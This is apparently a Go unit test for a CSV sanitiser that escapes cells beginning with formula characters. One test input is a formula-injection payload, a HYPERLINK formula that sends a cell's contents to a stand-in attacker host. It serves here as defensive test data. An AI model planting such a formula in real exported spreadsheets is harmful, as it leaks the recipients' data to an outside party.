package csvsafe

import "testing"

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A2)`: `'=HYPERLINK("https://evil.example/?"&A2)`,
		"+1-555": "'+1-555", "-20%": "'-20%", "@SUM(A1)": "'@SUM(A1)", "\tX": "'\tX",
		"SPRING-20": "SPRING-20", "": "", "a=b": "a=b", "'=x": "'=x",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}
